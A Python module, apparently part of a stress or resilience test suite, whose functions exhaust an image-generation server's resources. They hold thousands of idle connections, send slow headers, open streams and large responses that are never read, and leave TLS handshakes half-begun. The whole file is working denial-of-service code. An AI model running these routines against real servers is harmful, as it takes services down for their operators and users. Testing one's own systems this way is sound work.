"""Connections, event streams and handshakes that stay, and answers that nobody reads."""

from __future__ import annotations

import contextlib
import json
import socket
import time

from attacks.target import Target


def idle_connections(target: Target, *, number: int = 3000) -> None:
    """Connections that send nothing."""
    target.hold(number, target.connect)


def slow_heads(target: Target, *, number: int = 500) -> None:
    """Heads of requests of which a line comes now and then."""
    held: list[socket.socket] = []

    def make() -> socket.socket:
        connection = target.connect()
        connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n")
        for other in held:
            with contextlib.suppress(OSError):
                other.send(b"X: y\r\n")
        held.append(connection)
        return connection

    target.hold(number, make)


def idle_streams(target: Target, *, number: int = 300) -> None:
    """Event streams by the hundred, read by nobody who is in a hurry."""
    begun, head = 0.0, b""

    def make() -> socket.socket:
        nonlocal begun, head
        if time.monotonic() - begun > 0.5:  # the last job may have ended
            begun = time.monotonic()
            with target.client() as client:
                id_ = target.submit(client, num_inference_steps=50)
            head = target.head(f"/v1/jobs/{id_}/events", "", method="GET")
        connection = target.connect()
        connection.sendall(head)
        return connection

    target.hold(number, make)


def slow_streams(target: Target, *, number: int = 30) -> None:
    """Streams of previews whose reader has a tiny buffer and reads nothing, of one job after another."""
    asked = {"prompt": "a", "stream": True, "partial_images": 3, "size": f"{target.size}x{target.size}"}
    body = json.dumps(asked).encode()
    head = target.head("/v1/images/generations", "Content-Type: application/json", f"Content-Length: {len(body)}", "")

    def make() -> socket.socket:
        connection = target.connect(receive=2048)
        connection.sendall(head + body)
        return connection

    target.hold(number, make)


def unread_answers(target: Target, *, number: int = 100) -> None:
    """Requests for the largest answer, sent again and again on connections that nobody reads from."""
    head = target.head("/openapi.json", "", method="GET")

    def make() -> socket.socket:
        connection = target.connect(receive=2048)
        with contextlib.suppress(OSError):
            connection.sendall(head * 200)
        return connection

    target.hold(number, make)


def handshakes(target: Target, *, number: int = 2000) -> None:
    """Connections that begin to speak TLS and go no further."""

    def make() -> socket.socket:
        connection = target.connect()
        connection.sendall(b"\x16\x03\x01\x02\x00\x01")
        return connection

    target.hold(number, make)
